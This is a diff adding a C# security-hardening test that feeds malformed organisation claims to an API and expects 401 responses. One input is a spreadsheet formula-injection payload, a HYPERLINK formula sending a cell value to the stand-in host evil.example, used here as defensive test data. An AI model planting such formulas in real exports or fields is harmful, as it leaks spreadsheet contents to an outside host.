@@ -38,6 +38,21 @@ public class SecurityHardeningTests(PlatformBehindGateway platform)
             .GetAsync("/api/exchanges")).StatusCode);
     }
 
+    [Theory]
+    [InlineData("fudan ")]
+    [InlineData("fu dan")]
+    [InlineData("复旦")]
+    [InlineData("fu\u200Bdan")]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")]
+    [InlineData("fudan\u0000")]
+    [InlineData("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")] // 65 characters
+    public async Task An_org_that_is_not_a_code_is_refused_never_a_new_tenant_or_a_500(string org)
+    {
+        var client = WithToken(new() { ["sub"] = "x", ["role"] = "university", ["org"] = org });
+        Assert.Equal(HttpStatusCode.Unauthorized, (await client.GetAsync("/api/payouts")).StatusCode);
+        Assert.Equal(HttpStatusCode.Unauthorized, (await client.PostAsJsonAsync("/api/inventions", new { title = "x" })).StatusCode);
+    }
+
     [Fact]
     public async Task A_token_living_longer_than_24_hours_is_refused()
     {
